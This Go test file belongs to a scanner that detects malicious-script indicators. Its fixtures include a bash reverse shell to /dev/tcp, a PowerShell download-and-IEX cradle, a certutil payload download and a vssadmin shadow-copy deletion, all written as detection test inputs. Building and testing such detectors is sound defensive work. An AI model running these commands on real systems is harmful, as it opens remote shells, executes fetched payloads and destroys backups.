package indicators

import (
	"encoding/json"
	"math/rand/v2"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/automaldesc/automaldesc/analysis/lang"
)

func TestSeverity(t *testing.T) {
	for s := SeverityUnknown; s <= SeverityCritical; s++ {
		t.Run(s.String(), func(t *testing.T) {
			b, err := s.MarshalText()
			if err != nil {
				t.Fatal(err)
			}
			var got Severity
			if err := got.UnmarshalText(b); err != nil {
				t.Fatal(err)
			}
			if got != s {
				t.Errorf("round trip: got %v, want %v", got, s)
			}
		})
	}
	if got, err := ParseSeverity(" HIGH "); err != nil || got != SeverityHigh {
		t.Errorf("ParseSeverity(HIGH): got %v, %v, want high, nil", got, err)
	}
	if _, err := ParseSeverity("severe"); err == nil {
		t.Error("ParseSeverity(severe): got nil error, want an error")
	}
	if _, err := Severity(42).MarshalText(); err == nil {
		t.Error("MarshalText(42): got nil error, want an error")
	}
	if got := Severity(42).String(); got != "severity(42)" {
		t.Errorf("String(42): got %q", got)
	}
	if SeverityUnknown.Valid() || !SeverityInfo.Valid() || Severity(9).Valid() {
		t.Error("Valid: wrong answer")
	}
}

func TestScanHit(t *testing.T) {
	text := "# setup\r\nwhoami /all\r\nvssadmin delete shadows /all /quiet\r\nwhoami\r\n"
	hits := Default().Scan(text, lang.Batch, 3)
	got := map[string]Hit{}
	for _, h := range hits {
		got[h.ID] = h
	}
	want := map[string]Hit{
		"disc.whoami": {ID: "disc.whoami", Title: "Current user and privileges queried", Severity: SeverityInfo,
			Techniques: []string{"T1033"}, Tactic: "discovery", Layer: 3, Line: 2, Column: 1, Excerpt: "whoami /all", Count: 2},
		"impact.shadow_copy_delete": {ID: "impact.shadow_copy_delete", Title: "Volume shadow copies deleted", Severity: SeverityCritical,
			Techniques: []string{"T1490"}, Tactic: "impact", Layer: 3, Line: 3, Column: 1, Excerpt: "vssadmin delete shadows /all /quiet", Count: 1},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("hits (-want +got):\n%s", diff)
	}
	if len(hits) == 2 && hits[0].Line > hits[1].Line {
		t.Errorf("order: got line %d before line %d, want position order", hits[0].Line, hits[1].Line)
	}
	b, err := json.Marshal(got["impact.shadow_copy_delete"])
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), `"severity":"critical"`) || !strings.Contains(string(b), `"techniques":["T1490"]`) {
		t.Errorf("json: got %s", b)
	}
}

func TestScanLanguageScoping(t *testing.T) {
	const shell = "bash -i >& /dev/tcp/203.0.113.12/4444 0>&1"
	tests := []struct {
		name string
		l    lang.Language
		want bool
	}{
		{"in scope", lang.Bash, true},
		{"python spawning it", lang.Python, true},
		{"out of scope", lang.VBScript, false},
		{"unknown gets every indicator", lang.Unknown, true},
		{"out of range language", lang.Language(200), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, got := findHit(Default().Scan(shell, tt.l, 0), "shell.dev_tcp")
			if got != tt.want {
				t.Errorf("shell.dev_tcp in %v: got %v, want %v", tt.l, got, tt.want)
			}
		})
	}
}

func TestScanCaseSensitivity(t *testing.T) {
	// Python is case-sensitive: EXEC( is not exec(.
	if _, ok := findHit(Default().Scan("EXEC(base64.b64decode(s))", lang.Python, 0), "obf.py_exec_decoded"); ok {
		t.Error("EXEC( in Python: got a hit, want none")
	}
	// PowerShell is not: iEx matches.
	if _, ok := findHit(Default().Scan("iEx ((New-Object Net.WebClient).DownloadString('http://203.0.113.1/'))", lang.PowerShell, 0), "exec.ps_download_iex"); !ok {
		t.Error("iEx cradle in PowerShell: got no hit, want one")
	}
}

func TestScanEmptyAndBinary(t *testing.T) {
	c := Default()
	if got := c.Scan("", lang.PowerShell, 0); got != nil {
		t.Errorf("empty text: got %v, want nil", got)
	}
	bin := string([]byte{0, 1, 2, 0xff, 0xfe, '\n', 0x80, 'w', 'h', 'o', 'a', 'm', 'i', 0xc3})
	hits := c.Scan(bin, lang.Batch, 0)
	h, ok := findHit(hits, "disc.whoami")
	if !ok {
		t.Fatalf("binary text with whoami: got %v, want a disc.whoami hit", hits)
	}
	if !utf8.ValidString(h.Excerpt) || h.Line != 2 || h.Column != 2 {
		t.Errorf("hit in binary text: got %d:%d excerpt %q, want 2:2 (the invalid byte counts as one) and valid UTF-8", h.Line, h.Column, h.Excerpt)
	}
}

func TestExcerpt(t *testing.T) {
	long := strings.Repeat("a", 500) + "vssadmin delete shadows /all" + strings.Repeat("é", 300)
	h, ok := findHit(Default().Scan(long, lang.Batch, 0), "impact.shadow_copy_delete")
	if !ok {
		t.Fatal("got no hit in a long line")
	}
	if len(h.Excerpt) > excerptMax || !strings.Contains(h.Excerpt, "vssadmin delete shadows") || !utf8.ValidString(h.Excerpt) {
		t.Errorf("excerpt: got %q (%d bytes), want <= %d valid bytes around the match", h.Excerpt, len(h.Excerpt), excerptMax)
	}
	if h.Column != 501 {
		t.Errorf("column: got %d, want 501", h.Column)
	}
	if got := excerpt("a\x1b[31mb\r", 0, 8, 0); got != "a [31mb" {
		t.Errorf("control characters: got %q, want %q", got, "a [31mb")
	}
}

func TestScanLongLineWindows(t *testing.T) {
	// The anchor occurs many times on one huge line; the regexp holds only
	// far into it.
	line := strings.Repeat("certutil -hashfile x; ", 500) + "certutil -urlcache -f http://203.0.113.25/p.exe p.exe"
	h, ok := findHit(Default().Scan(line, lang.Batch, 0), "lolbin.certutil_download")
	if !ok {
		t.Fatal("got no hit, want one past many non-matching anchors")
	}
	if want := 500*len("certutil -hashfile x; ") + 1; h.Column != want {
		t.Errorf("column: got %d, want %d", h.Column, want)
	}
}

func TestScanConcurrent(t *testing.T) {
	c := Default()
	text := benchScript(5 << 10)
	want := c.Scan(text, lang.PowerShell, 0)
	var wg sync.WaitGroup
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if got := c.Scan(text, lang.PowerShell, 0); !cmp.Equal(got, want) {
				t.Error("concurrent Scan: got a different result")
			}
		}()
	}
	wg.Wait()
}

func TestLookup(t *testing.T) {
	c := Default()
	ind, ok := c.Lookup("evasion.amsi_init_failed")
	if !ok || ind.Severity != SeverityCritical || ind.Tactic != "defense-evasion" {
		t.Errorf("Lookup(evasion.amsi_init_failed): got %+v, %v", ind, ok)
	}
	if _, ok := c.Lookup("no.such"); ok {
		t.Error("Lookup(no.such): got ok, want not found")
	}
	if c.Len() != len(c.Indicators()) {
		t.Errorf("Len: got %d, want %d", c.Len(), len(c.Indicators()))
	}
}

func TestAutomatonMatchesNaive(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	alpha := "abcAB. \n\xc3\xa9"
	randStr := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = alpha[r.IntN(len(alpha))]
		}
		return string(b)
	}
	for trial := range 400 {
		var lits []string
		seen := map[string]bool{}
		for len(lits) < 1+r.IntN(12) {
			l := asciiLower(randStr(1 + r.IntN(4+trial%40)))
			if !seen[l] {
				seen[l] = true
				lits = append(lits, l)
			}
		}
		a := newAutomaton(lits)
		// Half the texts are long enough for the interleaved runs.
		text := randStr(r.IntN(200))
		switch {
		case trial%20 == 19: // several words of occurrence blocks
			text = randStr(1<<blockShift*64*2 + r.IntN(1<<16))
		case trial%2 == 1:
			text = randStr(minSplit + r.IntN(4*minSplit))
		}
		occ := newOccurrences(len(lits))
		occ.reset(len(text))
		a.scan(text, &occ)
		low := asciiLower(text)
		want := 0
		for i, l := range lits {
			id := int32(i)
			if w := int32(strings.Index(low, l)); occ.first[i] != w {
				t.Fatalf("trial %d: first %q in %q: got %d, want %d", trial, l, text, occ.first[i], w)
			}
			if w := int32(strings.LastIndex(low, l)); occ.last[i] != w {
				t.Fatalf("trial %d: last %q in %q: got %d, want %d", trial, l, text, occ.last[i], w)
			}
			if occ.first[i] >= 0 {
				want++
			}
			step := 1 + len(text)/256
			for from := 0; from <= len(text)+1; from += 1 + r.IntN(step) {
				w := -1
				if from <= len(low) {
					if k := strings.Index(low[from:], l); k >= 0 {
						w = from + k
					}
				}
				if got := occ.next(id, l, low, from); got != w {
					t.Fatalf("trial %d: next %q from %d in %q: got %d, want %d", trial, l, from, text, got, w)
				}
			}
		}
		if len(occ.found) != want {
			t.Fatalf("trial %d: found %d literals, want %d", trial, len(occ.found), want)
		}
	}
}

func TestRawIPURL(t *testing.T) {
	tests := []struct {
		text string
		want int
	}{
		{"get http://203.0.113.5/a", 4},
		{"HTTPS://198.51.100.1:8443/", 0},
		{"http://10.0.0.1/ http://8.8.8.8/", 17},
		{"http://172.20.1.1/ http://100.64.0.1/ http://169.254.1.1/", -1},
		{"http://1.2.3.4.example.invalid/", -1},
		{"http://999.1.1.1/", -1},
		{"http://1.2.3/", -1},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			if got := rawIPURL(tt.text, asciiLower(tt.text)); got != tt.want {
				t.Errorf("rawIPURL: got %d, want %d", got, tt.want)
			}
		})
	}
}

func TestIsRandomIdent(t *testing.T) {
	tests := []struct {
		s    string
		want bool
	}{
		{"XmtKaYoDq", true},
		{"qzxvbnrtp", true},
		{"a1g2h3k4m5n6", true},
		{"a1b2c3d4e5f6", false}, // pure hex: treated as a hash
		{"computeTotalAmount", false},
		{"getHTTPResponse", false},
		{"strengths", false},
		{"deadbeefcafebabe0123", false}, // a hash
		{"MAX_BUFFER_SIZE", false},
	}
	for _, tt := range tests {
		t.Run(tt.s, func(t *testing.T) {
			if got := isRandomIdent(tt.s); got != tt.want {
				t.Errorf("isRandomIdent(%q): got %v, want %v", tt.s, got, tt.want)
			}
		})
	}
}

func TestScanHugeInputIsBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("large input")
	}
	big := strings.Repeat("IEX $a; certutil -decode a b; [char]65+", 300_000) // ~12 MB
	hits := Default().Scan(big, lang.PowerShell, 0)
	if len(hits) == 0 || len(hits) > MaxHits {
		t.Errorf("hits: got %d, want 1..%d", len(hits), MaxHits)
	}
	for _, h := range hits {
		if h.Count > MaxCount {
			t.Errorf("%s count: got %d, want <= %d", h.ID, h.Count, MaxCount)
		}
	}
}

// TestScanLowerBufferDoesNotEscape checks that no hit refers to the
// lower-case buffer a scan recycles (see scan.lowered): after each Scan the
// recycled buffer is overwritten, and the hits must not change.
func TestScanLowerBufferDoesNotEscape(t *testing.T) {
	c := Default()
	clone := func(hits []Hit) []Hit {
		out := make([]Hit, len(hits))
		for i, h := range hits {
			h.ID, h.Title, h.Tactic, h.Excerpt = strings.Clone(h.ID), strings.Clone(h.Title), strings.Clone(h.Tactic), strings.Clone(h.Excerpt)
			h.Techniques = append([]string(nil), h.Techniques...)
			for k := range h.Techniques {
				h.Techniques[k] = strings.Clone(h.Techniques[k])
			}
			out[i] = h
		}
		return out
	}
	n := 0
	for _, ind := range c.Indicators() {
		for _, tp := range ind.TruePositives {
			text := strings.ReplaceAll(tp, "§", "")
			if strings.ToLower(text) == text {
				continue // no lower-case copy is made
			}
			hits := c.Scan(text, lang.Unknown, 0)
			want := clone(hits)
			// The pool hands the scan just recycled back to this goroutine
			// (nearly always): poison its buffer.
			s := c.scans.Get().(*scan)
			b := s.lowBuf[:cap(s.lowBuf)]
			for i := range b {
				b[i] = '#'
			}
			c.scans.Put(s)
			if diff := cmp.Diff(want, hits); diff != "" {
				t.Errorf("%s: hits changed when the lower-case buffer was overwritten (-before +after):\n%s", ind.ID, diff)
			}
			n++
		}
	}
	if n < 50 {
		t.Fatalf("only %d fixtures with upper case", n)
	}
}
